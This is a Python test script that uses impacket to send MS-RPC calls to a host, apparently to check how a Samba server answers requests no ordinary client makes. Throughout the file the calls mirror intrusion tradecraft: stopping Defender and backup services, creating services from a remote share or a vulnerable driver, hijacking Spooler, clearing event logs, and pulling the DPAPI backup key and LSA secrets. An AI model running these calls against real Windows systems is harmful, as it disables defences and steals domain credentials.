"""Calls that no client of Samba's makes, by its Python bindings and by python3-impacket.

usage: calls.py WHAT HOST [USER [PASSWORD]]
"""
import sys

from impacket.dcerpc.v5 import bkrp, drsuapi, even, even6, lsad, nrpc, rprn, rrp, samr, scmr, srvs, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY, RPC_C_AUTHN_WINNT

what, host = sys.argv[1:3]
user = sys.argv[3] if len(sys.argv) > 3 else 'root'
password = sys.argv[4] if len(sys.argv) > 4 else 'Passw0rd!'


def pipe(name, interface, domain='', sealed=False):
    over = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\%s]' % (host, name))
    over.set_credentials(user, password, domain)
    rpc = over.get_dce_rpc()
    if sealed:
        rpc.set_auth_type(RPC_C_AUTHN_WINNT)
        rpc.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    rpc.connect()
    rpc.bind(interface)
    return rpc


def tried(name, call, *arguments, **named):
    try:
        answer = call(*arguments, **named)
        print(name, 'done')
        return answer
    except Exception as refusal:
        print(name, refusal)
        return None


def services():
    rpc = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
    for name in ['WinDefend', 'Sense', 'MSSQLSERVER', 'VSS', 'SQLWriter', 'BackupExecAgent']:
        service = scmr.hROpenServiceW(rpc, manager, name + '\0')['lpServiceHandle']
        tried('stop ' + name, scmr.hRControlService, rpc, service, scmr.SERVICE_CONTROL_STOP)
        scmr.hRCloseServiceHandle(rpc, service)


def service_rights():
    rpc = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
    service = scmr.hROpenServiceW(rpc, manager, 'Sense\0')['lpServiceHandle']
    old = tried('query', scmr.hRQueryServiceObjectSecurity, rpc, service, 4, 4096)
    if old is not None:
        descriptor = b''.join(old['lpSecurityDescriptor'])[:old['pcbBytesNeeded'] or None]
        tried('set', scmr.hRSetServiceObjectSecurity, rpc, service, 4, descriptor, len(descriptor))


def services_made():
    rpc = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
    tried('create', scmr.hRCreateServiceW, rpc, manager, 'Updater\0', 'Updater\0',
          lpBinaryPathName='\\\\10.1.0.66\\tools\\updater.exe\0')
    tried('driver', scmr.hRCreateServiceW, rpc, manager, 'rtcore64\0', 'rtcore64\0', dwServiceType=scmr.SERVICE_KERNEL_DRIVER,
          lpBinaryPathName='C:\\Windows\\Temp\\rtcore64.sys\0')
    tried('managed', scmr.hRCreateServiceW, rpc, manager, 'AnyDesk\0', 'AnyDesk Service\0',
          lpBinaryPathName='C:\\Program Files\\AnyDesk\\AnyDesk.exe --service\0')
    service = scmr.hROpenServiceW(rpc, manager, 'Spooler\0')['lpServiceHandle']
    tried('repoint', scmr.hRChangeServiceConfigW, rpc, service, lpBinaryPathName='C:\\Windows\\Temp\\a.exe\0')
    tried('start', scmr.hRStartServiceW, rpc, service)
    tried('repoint', scmr.hRChangeServiceConfigW, rpc, service, lpBinaryPathName='C:\\Windows\\System32\\spoolsv.exe\0')


def manager_refused():
    rpc = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    tried('manager', scmr.hROpenSCManagerW, rpc, dwDesiredAccess=scmr.SC_MANAGER_CREATE_SERVICE)


def events():
    rpc = pipe('eventlog', even.MSRPC_UUID_EVEN)
    for name in ['Security', 'System']:
        log = even.hElfrOpenELW(rpc, name)['LogHandle']
        tried('count', even.hElfrNumberOfRecords, rpc, log)
        tried('oldest', even.hElfrOldestRecordNumber, rpc, log)
        if name == 'Security':
            tried('read', even.hElfrReadELW, rpc, log, even.EVENTLOG_SEQUENTIAL_READ | even.EVENTLOG_FORWARDS_READ, 0, 4096)
        else:
            tried('clear', even.hElfrClearELFW, rpc, log)


def channel():
    over = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\eventlog]' % host)
    over.set_credentials(user, password, '')
    rpc = over.get_dce_rpc()
    rpc.connect()
    tried('bind', rpc.bind, even6.MSRPC_UUID_EVEN6)


def path_climbed():
    rpc = pipe('srvsvc', srvs.MSRPC_UUID_SRVS)
    request = srvs.NetprPathCanonicalize()
    request['ServerName'] = NULL
    request['PathName'] = '\\a\\..\\..\\b\0'
    request['OutbufLen'] = 260
    request['Prefix'] = '\0'
    request['PathType'] = 0
    request['Flags'] = 0
    tried('canonicalize', rpc.request, request)


def operation_255():
    rpc = pipe('srvsvc', srvs.MSRPC_UUID_SRVS)
    rpc.call(255, b'')
    tried('255', rpc.recv)


def backup_key():
    for sealed in False, True:
        rpc = pipe('protected_storage', bkrp.MSRPC_UUID_BKRP, 'LAB', sealed)
        tried('key', bkrp.hBackuprKey, rpc, bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, NULL)


def recovery_password():
    rpc = pipe('samr', samr.MSRPC_UUID_SAMR, 'LAB')
    request = samr.SamrSetDSRMPassword()
    request['Unused'] = NULL
    request['UserId'] = 500
    request['EncryptedNtOwfPassword'] = b'\x11' * 16
    tried('recovery password', rpc.request, request)


def secrets():
    rpc = pipe('lsarpc', lsad.MSRPC_UUID_LSAD, 'LAB')
    policy = lsad.hLsarOpenPolicy2(rpc)['PolicyHandle']
    secret = lsad.LsarOpenSecret()
    secret['PolicyHandle'] = policy
    secret['SecretName'] = 'G$BCKUPKEY_PREFERRED'
    secret['DesiredAccess'] = 3
    opened = tried('open', rpc.request, secret)
    if opened is not None:
        query = lsad.LsarQuerySecret()
        query['SecretHandle'] = opened['SecretHandle']
        for field in ['EncryptedCurrentValue', 'CurrentValueSetTime', 'EncryptedOldValue', 'OldValueSetTime']:
            query[field] = NULL
        tried('query', rpc.request, query)
    tried('retrieve', lsad.hLsarRetrievePrivateData, rpc, policy, 'DPAPI_SYSTEM')


globals()[what]()
